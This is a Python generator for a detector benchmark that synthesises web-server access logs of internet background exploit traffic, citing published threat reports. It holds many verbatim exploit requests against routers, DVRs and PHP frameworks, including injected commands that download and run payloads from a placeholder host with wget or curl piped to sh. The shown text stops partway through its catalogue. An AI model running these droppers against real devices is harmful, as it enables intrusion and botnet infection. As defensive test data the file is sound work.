#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty11 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
#
# Angle of this set: the background exploit traffic that every internet-facing web
# server receives, as published honeypot and threat-intelligence reports record it
# (IoT/router droppers, PHP framework exploits, web-shell hunting, WordPress plugin
# exploits and credential stuffing, secret-file grabbing, cloud-metadata SSRF,
# Log4Shell/Spring/Struts/Confluence injections, open-proxy checks, traversal,
# miner droppers, Windows/IIS/Exchange probes, edge-VPN exploits, Shellshock).
# The server is a small business site (static pages) with a WordPress blog under
# /blog/; it runs none of the other targeted products, so most probes get 404.
# About a fifth of the sources send a short burst (2-6 requests), the rest one.
import base64, datetime, os, random, urllib.parse

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20260211
DAY = datetime.datetime(2026, 2, 11, 0, 0, 0)
ATTACK_NET = (100, 92, 80)    # 100.92.80.0/20
BENIGN_NET = (100, 93, 48)    # 100.93.48.0/20

# ------------------------------------------------------------------ public sources
SRC = {
 'nish': 'Nish Tahir, "I looked through attacks in my access logs. Here\'s what I found" (nishtahir.com, Jan 2024): .env/AWS/.git probes, Shellshock CGI sweep, TP-Link LuCI tenda.sh dropper, /actuator/gateway/routes, XDEBUG_SESSION_START, and the User-Agents they came with',
 'f5top': 'F5 Labs Sensor Intel Series "Top CVEs" (monthly, 2022-2023): CVE-2020-8958, CVE-2017-9841, CVE-2019-9082, CVE-2021-3129, CVE-2022-22947, CVE-2018-13379, CVE-2013-6397, Exchange CVE-2021-34473/CVE-2022-41040, CVE-2020-0688, CVE-2022-40684',
 'f5ec2': 'F5 Labs, campaign targeting Amazon EC2 instance metadata via SSRF (Mar 2025): GETs rotating the query parameters dest, file, redirect, target, uri, url over metadata subpaths',
 'allbengal': 'All Bengal Blog, "How I Stopped Hackers Using One Fail2Ban Rule" (Mar 2026, 48 h of nginx logs): web-shell scans, .env theft, PHPUnit eval-stdin, path traversal',
 'mozi': '360 Netlab Mozi reports and Elastic Security Labs "Mozi\'n About" (2019-2021): Netgear setup.cgi and JAWS /shell droppers fetching Mozi.m / Mozi.a, User-Agent "Hello, world"; DShield web-honeypot URL lists',
 'hajime': 'Fortinet FortiGuard and Unit 42 Mirai/Hajime analyses (2017-2019): JAWS/MVPower DVR /shell?cd+/tmp... droppers and busybox wget payloads',
 'gpon': '360 Netlab "GPON exploit in the wild" (May 2018, Hajime/Mettle/Muhstik/Mirai/Satori) and F5 Labs top-CVE lists: POST /GponForm/diag_Form?images/',
 'boa': 'F5 Labs Sensor Intel (CVE-2020-8958 Guangzhou 1GE ONU boaform formPing the top CVE through 2022-2023); DShield honeypot URLs /boaform/admin/formLogin with default ISP credentials',
 'dlinknas': 'GreyNoise and Unit 42 reports on CVE-2024-3273 (D-Link DNS NAS nas_sharing.cgi user=messagebus, base64 command in system=, Apr 2024; Mirai-variant droppers)',
 'corona': 'Akamai SIRT, "Corona Mirai botnet infects via zero-day" (Aug 2024): CVE-2024-7029 AVTECH Factory.cgi brightness injection; AVTECH CloudSetup.cgi exefile= (Search-Lab 2016) used by Mirai variants',
 'tbk': 'Kaspersky Securelist, Mirai variant targets DVRs with CVE-2024-3721 (Jun 2025), and FortiGuard Labs Nexcorium (Apr 2026): device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=<command>',
 'rondo': 'Trend Micro ZDI "RondoDox exploit shotgun" (Oct 2025, 56 vulnerabilities incl. Shellshock) and FortiGuard RondoDox (Jul 2025): one source firing many router/DVR exploits in a row',
 'themoon': 'SANS ISC diaries on TheMoon worm (Feb 2014, Linksys POST /tmUnblock.cgi), still in DShield web-honeypot top URLs',
 'hnap': 'Unit 42 / Fortinet Moobot and Gafgyt analyses (D-Link HNAP1 CVE-2015-2051 SOAPAction command injection)',
 'draytek': '360 Netlab "Moobot" / DrayTek CVE-2020-8515 exploitation report (Mar 2020): POST /cgi-bin/mainfunction.cgi',
 'zyxel': 'Rapid7 and Unit 42 on CVE-2022-30525 (Zyxel ztp/cgi-bin/handler) used by Mirai variants (2022); Unit 42 Gafgyt/ViewLog.asp',
 'totolink': 'FortiGuard and Unit 42 Mirai-variant reports (2022-2024): TOTOLINK cstecgi.cgi, LB-Link set_LimitClient_cfg (Akamai IZ1H9, CVE-2023-26801), Tenda setUsbUnload (CVE-2020-10987)',
 'fourfaith': 'VulnCheck / XLab on CVE-2024-12856 (Four-Faith apply.cgi, gayfemboy Mirai variant, Dec 2024)',
 'vacron': 'Unit 42 "Mirai/Gafgyt target Vacron NVR, Netgear, D-Link" (2018-2019): board.cgi?cmd=, /cgi-bin/;cd${IFS} (Netgear CVE-2016-6277), login.cgi?cli= (D-Link DSL), command.php, Zeroshell kerbynet (CVE-2019-12725), ZTE web_shell_cmd.gch',
 'swedish': 'DShield/SANS ISC web-honeypot logs and Mirai/Gafgyt reports: Hi3520 DVR GET /language/Swedish${IFS}&&cd${IFS}/tmp;...&>r&&tar${IFS}/string.js',
 'hik': 'FortiGuard "Moobot exploits Hikvision CVE-2021-36260" (Dec 2021): PUT /SDK/webLanguage',
 'tplink': 'Nish Tahir access-log write-up (Jan 2024) and ZDI/FortiGuard on CVE-2023-1389 (TP-Link Archer AX21 LuCI country= injection, Mirai/Condi)',
 'thinkphp': 'F5 Labs top CVEs (CVE-2019-9082) and Akamai/Trend Micro ThinkPHP 5 invokefunction campaigns; DShield honeypot URLs with md5 HelloThinkPHP21 probe',
 'kinsing': 'Aqua Nautilus / Trend Micro Kinsing analyses (ThinkPHP, Laravel Ignition, WebLogic, Log4Shell droppers: (curl||wget)|bash)',
 'phpunit': 'F5 Labs top CVEs (CVE-2017-9841 in the top two for 2022-2023) and All Bengal Blog nginx logs (Mar 2026): eval-stdin.php under many vendor prefixes',
 'phpcgi': 'Akamai SIRT and Cisco Talos on CVE-2024-4577 exploitation (Jun 2024 - 2025: Gafgyt, Mirai, RedTail, XMRig): %AD soft-hyphen argument injection, hello.world and php-cgi.exe targets',
 'phpcgi12': 'SANS ISC / DShield web-honeypot top URLs: CVE-2012-1823 PHP-CGI hex-encoded -d allow_url_include ... auto_prepend_file=php://input against /cgi-bin/php*',
 'ignition': 'F5 Labs top CVEs (CVE-2021-3129 Laravel Ignition) and Kinsing reports',
 'pearcmd': 'SANS ISC / DShield honeypot diaries on pearcmd.php LFI-to-RCE scans (index.php?lang=../../usr/local/lib/php/pearcmd&+config-create+...)',
 'cms': 'CVE advisories and mass-exploitation reports: vBulletin CVE-2019-16759/CVE-2020-17496, Drupalgeddon2 CVE-2018-7600 (Check Point, Imperva), Joomla CVE-2023-23752 (VulnCheck, F5 Labs)',
 'pma': 'lawsonry.com "What do malicious log entries look like?" (Jan 2014): /pma, /myadmin, /phpMyAdmin scripts/setup.php sweeps; ZmEu scanner',
 'shells': 'All Bengal Blog nginx logs (Mar 2026), gerrypedraza.com Wordfence log review (ALFA_DATA/alfacgiapi), AIT threat-intel feed (shell.php, x.php probes): web-shell hunting',
 'aspx': 'Microsoft and Volexity ProxyLogon reports (Mar 2021): web shells in /aspnet_client/system_web/ and /owa/auth/',
 'tomcatput': 'CVE-2017-12615 advisory and honeypot reports of PUT /<name>.jsp/ uploads (Tomcat readonly=false)',
 'wpenum': 'Wordfence and WPScan reports on WordPress user enumeration (/wp-json/wp/v2/users, ?author=N) before credential attacks',
 'wpfm': 'Wordfence on CVE-2020-25213 (WP File Manager connector.minimal.php mass exploitation, Sep 2020)',
 'wpplug': 'Wordfence / Patchstack / WPScan mass-exploitation reports: Revolution Slider revslider_show_image (CVE-2014-9734), Duplicator (CVE-2020-11738), Backup Migration (CVE-2023-6553), WP-Automatic csv.php (CVE-2024-27956), setup-config.php installer hijacking',
 'wpbf': 'Wordfence "XMLRPC or wp-login: which do brute force attackers prefer", GoDaddy help "Common WordPress attacks" (POST //xmlrpc.php log lines), errorlogs.net xmlrpc signatures',
 'env': 'Nish Tahir access-log write-up (Jan 2024), All Bengal Blog (Mar 2026), fail2ban sensitive-file filters in public repos, gerrypedraza.com log review: .env, .git, AWS, docker-compose, secrets.yml probes',
 'proxy': 'Honeynet Project "Know Your Enemy: Web Application Threats" (open-proxy abuse), SANS ISC proxy-scan diaries: CONNECT host:443 and absolute-URI GETs (proxy judges, baidu gs.gif)',
 'trav': 'SANS ISC diaries on CVE-2021-41773/CVE-2021-42013 scans (Oct 2021), Grafana CVE-2021-43798 and Spring Cloud Config CVE-2020-5410 advisories, All Bengal Blog traversal lines',
 'redtail': 'Akamai SIRT "RedTail cryptominer" (May 2024): POST /cgi-bin/.%2e/.../bin/sh (Apache CVE-2021-41773) and PHP-CGI droppers',
 'weblogic': 'SANS ISC diary on CVE-2020-14882 WebLogic console exploitation (Oct 2020): /console/css/%252e%252e%252fconsole.portal with ShellSession',
 'confluence': 'Volexity, Cloudflare and Trend Micro on CVE-2022-26134 (OGNL in the URI path; coin-miner droppers) and CVE-2023-22527',
 'geoserver': 'FortiGuard Labs on CVE-2024-36401 (GeoServer valueReference=exec(...), Sep 2024: coin miners, Condi, SideWalk)',
 'log4j': 'Cloudflare blog on Log4Shell in logs (Dec 2021: User-Agent and URL-path payloads, ${lower:} obfuscation), Kinsing/Log4j Base64 command droppers',
 'spring': 'Nish Tahir access-log write-up (/actuator/gateway/routes), F5 Labs top CVEs (CVE-2022-22947), Unit 42 on Spring4Shell CVE-2022-22965 and Spring Cloud Function CVE-2022-22963 exploitation',
 'struts': 'Unit 42 / Imperva on Struts2 S2-016 and S2-057 OGNL injection still sprayed by scanners',
 'ofbiz': 'SANS ISC diary on Apache OFBiz CVE-2024-32113 scans (Aug 2024): /webtools/control/forgotPassword;/ProgramExport',
 'solr': 'F5 Labs top CVEs (Apache Solr) and Solr Velocity CVE-2019-17558 exploitation reports',
 'edge': 'F5 Labs Sensor Intel, CISA KEV and vendor advisories: Fortinet CVE-2018-13379 and CVE-2022-40684, Pulse CVE-2019-11510, Citrix CVE-2019-19781 / CVE-2023-4966, Ivanti CVE-2024-21887, BIG-IP CVE-2020-5902 / CVE-2022-1388, PAN-OS CVE-2024-0012, Cisco ASA CVE-2020-3452, MOVEit CVE-2023-34362',
 'exchange': 'F5 Labs top CVEs (Mar 2023: CVE-2021-34473 / CVE-2022-41040 share the autodiscover URI; CVE-2020-0688), Microsoft/Volexity ProxyLogon',
 'telerik': 'CISA AA23-074A (Telerik CVE-2019-18935 / CVE-2017-9248 exploitation)',
 'toolshell': 'Eye Security and Microsoft on SharePoint ToolShell CVE-2025-53770 (Jul 2025): POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit with Referer /_layouts/SignOut.aspx',
 'nimda': 'CERT CA-2001-26 (Nimda) and honeypot reports of its IIS root.exe/cmd.exe sequence still arriving',
 'iis': 'Soroush Dalili IIS short-name disclosure and honeypot .NET probes (elmah.axd, trace.axd, web.config)',
 'shellshock': 'Nish Tahir access-log write-up (Jan 2024: () { ignored; }; ... /bin/cat /etc/passwd over /cgi-bin paths), Rapid7/GreyNoise on SonicWall SMA jarrewrite.sh, Trend Micro RondoDox (Shellshock in its exploit list)',
}

# ------------------------------------------------------------------ user agents
UA = {
 'hello': 'Hello, world',
 'none': '-',
 'go': 'Go-http-client/1.1',
 'py': 'python-requests/2.31.0',
 'py2': 'python-requests/2.32.3',
 'curl': 'curl/7.88.1',
 'zgrab': 'Mozilla/5.0 zgrab/0.x',
 'libwww': 'libwww-perl/6.72',
 'async': 'Custom-AsyncHttpClient',
 'fasthttp': 'fasthttp',
 'l9': 'l9explore/1.2.2',
 'zmeu': 'ZmEu',
 'nmap': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
 'wpscan': 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
 'ie6': 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)',
 'chr78': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
 'chr81l': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
 'chr80': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.149 Safari/537.36',
 'chr70': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.77 Safari/537.36',
 'chr99': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4859.172 Safari/537.36',
 'chr91': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36',
 'chr120': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
 'chr131m': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
 'ff77m': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:77.0) Gecko/20100101 Firefox/77.0',
 'ff63': 'Mozilla/5.0 (Windows NT 6.3; Win64; x64; rv:63.0) Gecko/20100101 Firefox/63.0',
 'ff115l': 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
 'ff47': 'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0',
 'mozlila': 'Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36',
 'iphone13': 'Mozilla/5.0 (iPhone; CPU iPhone OS 13_2_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0.3 Mobile/15E148 Safari/604.1',
 'and10': 'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Mobile Safari/537.36',
 'sh41': 'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36',
 'sh44': 'Mozilla/5.0 (Windows NT 6.2; WOW64) AppleWebKit/537.36 (KHTML like Gecko) Chrome/44.0.2403.155 Safari/537.36',
 'sh36': 'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/36.0.1985.67 Safari/537.36',
}
FORGED = ['chr78', 'chr81l', 'chr80', 'chr91', 'chr120', 'chr131m', 'ff77m', 'ff63', 'ff115l', 'ff47', 'iphone13', 'and10']
BARE = ['go', 'py', 'py2', 'curl', 'zgrab', 'libwww', 'fasthttp', 'none']

# ------------------------------------------------------------------ encoders
def pct(s, safe=''):
    return urllib.parse.quote(s, safe=safe)

def hexall(s):
    """every byte as %XX (the CVE-2012-1823 PHP-CGI spray writes its -d options so)"""
    return ''.join('+' if c == ' ' else '%%%02X' % ord(c) for c in s)

def b64(s):
    return base64.b64encode(s.encode()).decode()

def esc(s):
    """nginx access-log escaping (escape=default): " \\ and non-printable bytes as \\xHH"""
    out = []
    for ch in s.encode('utf-8'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

# ------------------------------------------------------------------ catalogue
# Each entry: category, technique, source key, n (sources), and a function
# f(r, c2) -> list of requests (method, target[, status][, ua-override][, referer]).
# c2 is a dict of per-source attacker values (download host, port, file names).
E = []

def T(cat, tech, src, n, fn, ua=None, ref='-', pre_root=0.0):
    E.append(dict(cat=cat, tech=tech, src=src, n=n, fn=fn, ua=ua or FORGED, ref=ref, pre_root=pre_root))

def one(method, target):
    return lambda r, c: [(method, target.format(**c))]

def pick(method, targets):
    return lambda r, c: [(method, r.choice(targets).format(**c))]

def burst(method, targets, lo, hi):
    def f(r, c):
        k = r.randint(lo, min(hi, len(targets)))
        return [(method, t.format(**c)) for t in r.sample(targets, k)]
    return f

# ---- iot-rce: router / DVR / NAS droppers -------------------------------------
T('iot-rce', 'CVE-2023-1389 TP-Link Archer AX21 LuCI country injection', 'tplink', 5,
  lambda r, c: [('GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(' +
                 pct('cd /tmp; rm -rf *; wget http://{ip}/{sh}; chmod 777 {sh};./{sh}'.format(**c), safe='') + ')')],
  ua=['chr120', 'chr131m', 'none'])
T('iot-rce', 'CVE-2023-1389 TP-Link Archer AX21 LuCI country injection', 'tplink', 1,
  one('GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://{ip}/t|sh`)'),
  ua=['py'])
T('iot-rce', 'Netgear DGN setup.cgi syscmd (Mozi)', 'mozi', 6,
  one('GET', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}:{port}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1'),
  ua=['hello', 'hello', 'none'])
T('iot-rce', 'JAWS/MVPower DVR /shell RCE (Mozi)', 'mozi', 3,
  one('GET', '/shell?cd+/tmp;rm+-rf+*;wget+{ip}:{port}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws'),
  ua=['hello'])
T('iot-rce', 'JAWS/MVPower DVR /shell RCE (Mirai/Hajime)', 'hajime', 2,
  one('GET', '/shell?cd%20/tmp;rm%20-rf%20*;busybox%20wget%20http://{ip}/bins/{bin}.arm7;chmod%20777%20{bin}.arm7;./{bin}.arm7%20jaws'),
  ua=['hello', 'none'])
T('iot-rce', 'CVE-2018-10561 GPON diag_Form auth bypass', 'gpon', 3, one('POST', '/GponForm/diag_Form?images/'),
  ua=['hello', 'none', 'py'])
T('iot-rce', 'CVE-2020-8958 1GE ONU boaform formPing', 'boa', 2, one('POST', '/boaform/admin/formPing'),
  ua=['none', 'hello'])
T('iot-rce', 'OptiLink/Realtek boaform default-credential login (Mozi)', 'boa', 2,
  pick('GET', ['/boaform/admin/formLogin?username=adminisp&psd=adminisp', '/boaform/admin/formLogin?username=ec8&psd=ec8']),
  ua=['none', 'hello'])
T('iot-rce', 'CVE-2024-3273 D-Link DNS nas_sharing.cgi', 'dlinknas', 2,
  lambda r, c: [('GET', '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=' +
                 b64('cd /tmp && wget http://{ip}/{bin}.x86 && chmod 777 {bin}.x86 && ./{bin}.x86 dlink'.format(**c)))],
  ua=['chr91', 'py'])
T('iot-rce', 'CVE-2024-3273 D-Link DNS nas_sharing.cgi', 'dlinknas', 1,
  lambda r, c: [('GET', '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=' +
                 pct(b64('(wget -qO- http://{ip}/d.sh || curl http://{ip}/d.sh) | sh'.format(**c)), safe=''))],
  ua=['go'])
T('iot-rce', 'CVE-2024-7029 AVTECH Factory.cgi brightness (Corona Mirai)', 'corona', 2,
  one('POST', '/cgi-bin/supervisor/Factory.cgi'), ua=['none', 'hello'])
T('iot-rce', 'AVTECH CloudSetup.cgi exefile injection (Search-Lab 2016)', 'corona', 2,
  one('GET', '/cgi-bin/supervisor/CloudSetup.cgi?exefile=cd%20/tmp;%20wget%20http://{ip}/av.sh;%20chmod%20777%20av.sh;%20sh%20av.sh'),
  ua=['none', 'hello'])
T('iot-rce', 'CVE-2024-3721 TBK DVR device.rsp mdc injection', 'tbk', 3,
  lambda r, c: [(r.choice(['POST', 'POST', 'GET']),
                 '/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=' +
                 pct('cd /tmp;rm arm7; busybox wget http://{ip}/arm7; chmod 777 *; ./arm7 tbk'.format(**c), safe=''))],
  ua=['none', 'chr120'])
T('iot-rce', 'Linksys E-series tmUnblock.cgi (TheMoon)', 'themoon', 2, one('POST', '/tmUnblock.cgi'), ua=['none'])
T('iot-rce', 'CVE-2015-2051 D-Link HNAP1 SOAPAction injection', 'hnap', 2, one('POST', '/HNAP1/'), ua=['none', 'hello'])
T('iot-rce', 'CVE-2020-8515 DrayTek mainfunction.cgi', 'draytek', 2, one('POST', '/cgi-bin/mainfunction.cgi'), ua=['none', 'py'])
T('iot-rce', 'CVE-2022-30525 Zyxel ztp handler', 'zyxel', 1, one('POST', '/ztp/cgi-bin/handler'), ua=['py'])
T('iot-rce', 'Zyxel P660HN ViewLog.asp injection (Gafgyt)', 'zyxel', 1, one('POST', '/cgi-bin/ViewLog.asp'), ua=['none'])
T('iot-rce', 'CVE-2022-26210 TOTOLINK cstecgi.cgi', 'totolink', 2, one('POST', '/cgi-bin/cstecgi.cgi'), ua=['none', 'hello'])
T('iot-rce', 'CVE-2023-26801 LB-Link set_LimitClient_cfg (IZ1H9)', 'totolink', 1, one('POST', '/goform/set_LimitClient_cfg'), ua=['none'])
T('iot-rce', 'CVE-2020-10987 Tenda setUsbUnload', 'totolink', 2,
  one('GET', '/goform/setUsbUnload/.js?deviceName=A;cd%20/tmp;wget%20http://{ip}/t.sh;sh%20t.sh'), ua=['none', 'hello'])
T('iot-rce', 'CVE-2024-12856 Four-Faith apply.cgi', 'fourfaith', 1, one('POST', '/apply.cgi'), ua=['chr91'])
T('iot-rce', 'Vacron NVR board.cgi cmd injection', 'vacron', 2,
  one('GET', '/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://{ip}/bins/{bin}.arm7;chmod+777+{bin}.arm7;./{bin}.arm7+vacron'),
  ua=['hello', 'none'])
T('iot-rce', 'Hi3520 DVR language/Swedish IFS injection', 'swedish', 3,
  one('GET', '/language/Swedish${{IFS}}&&cd${{IFS}}/tmp;rm${{IFS}}-rf${{IFS}}*;wget${{IFS}}http://{ip}/bins/{bin}.arm;sh${{IFS}}/tmp/{bin}.arm&>r&&tar${{IFS}}/string.js'),
  ua=['none', 'hello'])
T('iot-rce', 'CVE-2021-36260 Hikvision webLanguage (Moobot)', 'hik', 2, one('PUT', '/SDK/webLanguage'), ua=['none', 'py'])
T('iot-rce', 'CVE-2016-6277 Netgear R7000 /cgi-bin/; injection', 'vacron', 2,
  one('GET', '/cgi-bin/;cd${{IFS}}/var/tmp;rm${{IFS}}-rf${{IFS}}*;${{IFS}}wget${{IFS}}http://{ip}/mips;${{IFS}}sh${{IFS}}/var/tmp/mips'),
  ua=['hello', 'none'])
T('iot-rce', 'D-Link DSL-2750B login.cgi cli injection (Moobot)', 'vacron', 2,
  one('GET', "/login.cgi?cli=aa%20aa%27;wget%20http://{ip}/d%20-O%20-%3E%20/tmp/d;sh%20/tmp/d%27$"),
  ua=['none', 'hello'])
T('iot-rce', 'CVE-2019-12725 Zeroshell kerbynet x509List', 'vacron', 1,
  one('GET', '/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;wget%20http://{ip}/z;sh%20z;%22'),
  ua=['none'])
T('iot-rce', 'D-Link DIR command.php injection', 'vacron', 1, one('POST', '/command.php'), ua=['none'])
T('iot-rce', 'ZTE web_shell_cmd.gch', 'vacron', 1, one('POST', '/web_shell_cmd.gch'), ua=['hello'])

IOT_SHOTGUN = [
 ('GET', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}/rondo.sh+-O+/tmp/r;sh+/tmp/r&curpath=/&currentsetting.htm=1'),
 ('POST', '/GponForm/diag_Form?images/'),
 ('GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http%3A%2F%2F{ip}%2Frondo.sh%20-O-%7Csh)'),
 ('POST', '/cgi-bin/mainfunction.cgi'),
 ('POST', '/tmUnblock.cgi'),
 ('GET', '/shell?cd+/tmp;wget+http://{ip}/rondo.sh;sh+rondo.sh'),
 ('POST', '/boaform/admin/formPing'),
 ('GET', '/cgi-bin/supervisor/CloudSetup.cgi?exefile=wget%20http://{ip}/rondo.sh%20-O-%7Csh'),
 ('POST', '/cgi-bin/cstecgi.cgi'),
 ('POST', '/apply.cgi'),
]
def shotgun(r, c):
    k = r.randint(4, 6)
    return [(m, t.format(**c)) for m, t in r.sample(IOT_SHOTGUN, k)]
T('iot-rce', 'RondoDox exploit shotgun (several router/DVR CVEs)', 'rondo', 3, shotgun, ua=['chr120', 'none'])

# ---- php-exploit ----------------------------------------------------------------
THINK = ['/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
         '/public/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
         '/?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
         '/index.php?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1']
T('php-exploit', 'CVE-2018-20062 ThinkPHP 5 invokefunction probe', 'thinkphp', 4, pick('GET', THINK), ua=['chr78', 'chr91', 'none', 'ff115l'])
T('php-exploit', 'CVE-2018-20062 ThinkPHP 5 invokefunction probe', 'thinkphp', 1, burst('GET', THINK, 3, 4), ua=['chr78'])
PU = ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/admin/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/yii/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/vendor/phpunit/src/Util/PHP/eval-stdin.php',
      '/phpunit/src/Util/PHP/eval-stdin.php', '/wp-content/plugins/cloudflare/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php']
T('php-exploit', 'CVE-2017-9841 PHPUnit eval-stdin.php', 'phpunit', 2, pick('GET', PU[:3]), ua=['chr81l', 'go'])
T('php-exploit', 'CVE-2017-9841 PHPUnit eval-stdin.php', 'phpunit', 1, one('POST', PU[0]), ua=['curl'])
T('php-exploit', 'CVE-2017-9841 PHPUnit eval-stdin.php', 'phpunit', 3, burst('GET', PU, 4, 6), ua=['chr81l', 'chr78', 'go', 'ff115l'])
T('php-exploit', 'CVE-2024-4577 PHP-CGI soft-hyphen argument injection', 'phpcgi', 2,
  one('POST', '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input'), ua=['chr120', 'none'])
T('php-exploit', 'CVE-2024-4577 PHP-CGI soft-hyphen argument injection', 'phpcgi', 1,
  one('POST', '/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input'), ua=['py'])
T('php-exploit', 'CVE-2024-4577 PHP-CGI soft-hyphen argument injection', 'phpcgi', 1,
  one('POST', '/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input'),
  ua=['go'])
PHPCGI12 = hexall('-d allow_url_include=on -d safe_mode=off -d suhosin.simulation=on -d disable_functions="" '
                  '-d open_basedir=none -d auto_prepend_file=php://input -d cgi.force_redirect=0 -d cgi.redirect_status_env=0 -n')
T('php-exploit', 'CVE-2012-1823 PHP-CGI query-string options', 'phpcgi12', 2,
  pick('POST', ['/cgi-bin/php?' + PHPCGI12, '/cgi-bin/php5?' + PHPCGI12]), ua=['none', 'ie6'])
T('php-exploit', 'CVE-2012-1823 PHP-CGI query-string options', 'phpcgi12', 1,
  burst('POST', [p + '?' + PHPCGI12 for p in ('/cgi-bin/php', '/cgi-bin/php5', '/cgi-bin/php-cgi', '/cgi-bin/php.cgi', '/cgi-bin/php4')], 4, 5),
  ua=['none'])
T('php-exploit', 'CVE-2021-3129 Laravel Ignition execute-solution', 'ignition', 2, one('POST', '/_ignition/execute-solution'), ua=['py', 'chr91'])
T('php-exploit', 'pearcmd.php LFI config-create', 'pearcmd', 1,
  one('GET', '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php'),
  ua=['chr91'])
T('php-exploit', 'pearcmd.php LFI config-create', 'pearcmd', 1,
  one('GET', '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/%3C%3Fecho(md5(%22hi%22))%3B%3F%3E+/tmp/hello.php'),
  ua=['go'])
T('php-exploit', 'Xdebug remote-debug session trigger', 'nish', 2, one('GET', '/?XDEBUG_SESSION_START=phpstorm'), ua=['chr78'])
T('php-exploit', 'ThinkCMF fetch template injection', 'thinkphp', 1, one('GET', '/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>'),
  ua=['chr78'])
T('php-exploit', 'CVE-2019-16759 vBulletin widget_php', 'cms', 1, one('POST', '/index.php?routestring=ajax/render/widget_php'), ua=['py'])
T('php-exploit', 'CVE-2020-17496 vBulletin tabbedcontainer', 'cms', 1, one('POST', '/ajax/render/widget_tabbedcontainer_tab_panel'), ua=['py2'])
T('php-exploit', 'CVE-2018-7600 Drupalgeddon2', 'cms', 1,
  one('POST', '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax'), ua=['py'])
